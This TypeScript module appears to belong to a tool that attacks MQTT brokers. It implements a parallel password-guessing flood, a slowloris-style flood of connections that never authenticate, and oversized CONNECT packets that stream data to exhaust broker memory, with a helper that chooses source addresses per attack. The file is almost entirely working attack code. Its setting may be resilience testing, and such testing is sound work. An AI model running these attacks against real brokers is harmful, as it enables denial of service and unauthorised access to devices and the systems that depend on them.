import { randomBytes } from 'node:crypto'
import type { Socket } from 'node:net'
import { holdCrowd } from './sockets.ts'
import { attackersAddress, type Target } from './target.ts'

const GUESSES_AT_ONCE = 200
const SILENT = 1_000
const LARGE = 200
const LARGE_PIECE_BYTES = 64 * 1024

/** Many guesses at passwords of devices at once. */
export async function mqttGuesses(target: Target, until: number): Promise<string> {
  const act = (socket: Socket) => {
    socket.on('data', () => socket.destroy())
    socket.write(connectPacket(`guess-${randomBytes(4).toString('hex')}`, randomBytes(8).toString('hex')))
  }
  const { opened } = await holdCrowd({ ...brokerOf(target, 0), size: GUESSES_AT_ONCE, act }, until)
  return `${opened} guesses, ${GUESSES_AT_ONCE} at once`
}

/** Connections that never say who they are. */
export async function mqttSilent(target: Target, until: number): Promise<string> {
  const act = () => undefined
  const { opened, ended } = await holdCrowd({ ...brokerOf(target, 1), size: SILENT, act }, until)
  return `${opened} connections without CONNECT, ${ended} were ended`
}

/** Connections whose CONNECT says that 256 MB follow, and sends them. */
export async function mqttLarge(target: Target, until: number): Promise<string> {
  const piece = Buffer.alloc(LARGE_PIECE_BYTES)
  const act = (socket: Socket) => {
    socket.on('data', () => undefined)
    socket.write(Buffer.from([0x10, 0xff, 0xff, 0xff, 0x7f, 0, 4, ...Buffer.from('MQTT'), 4, 0b1100_0110, 0, 60]))
    const send = () => {
      while (!socket.destroyed && socket.write(piece));
    }
    socket.on('drain', send)
    send()
  }
  const { opened, ended } = await holdCrowd({ ...brokerOf(target, 7), size: LARGE, act }, until)
  return `${opened} connections, ${ended} were ended`
}

export function brokerOf(
  { url, mqtt }: Target,
  index: number,
): { host: string; port: number; from: string | undefined } {
  const { hostname, port } = new URL(`mqtt://${mqtt.replace(/^mqtt:\/\//, '')}`)
  return { host: hostname, port: Number(port || 1_883), from: attackersAddress(url, index) }
}

/** A CONNECT packet with user name and password (MQTT 3.1.1, 3.1). */
function connectPacket(userName: string, password: string): Buffer {
  const text = (value: string) =>
    Buffer.concat([Buffer.from([value.length >> 8, value.length & 0xff]), Buffer.from(value)])
  const variable = Buffer.concat([text('MQTT'), Buffer.from([4, 0b1100_0010, 0, 60])])
  const rest = Buffer.concat([variable, text(userName), text(userName), text(password)])
  return Buffer.concat([Buffer.from([0x10, rest.length]), rest])
}
